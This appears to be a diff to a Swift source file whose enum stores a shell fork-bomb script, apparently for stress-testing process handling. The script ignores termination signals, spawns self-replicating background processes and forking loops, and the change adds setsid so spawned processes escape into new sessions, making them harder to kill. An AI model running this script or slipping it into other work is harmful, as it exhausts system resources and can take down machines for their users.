@@ -14,11 +14,11 @@ enum Script {
         """
 
     /// Ever new processes whose parents end, in eight lines (four of them fast, for
-    /// as long as a shell recurses), and a crowd that forks short ones.
+    /// as long as a shell recurses; four in ever new sessions), and a crowd that forks short ones.
     static let bomb = """
         trap '' TERM
         hop() { hop & }
-        H='sh -c "$H" &'; export H
+        H='setsid sh -c "$H" &'; export H
         for i in 1 2 3 4; do hop 2>/dev/null; eval "$H"; done
         crowd() { while :; do (:) & (:); done; }
         for i in 1 2 3 4 5 6 7 8 9 10; do (for j in 1 2 3 4 5 6 7 8 9 10; do crowd & done; sleep 600) & done
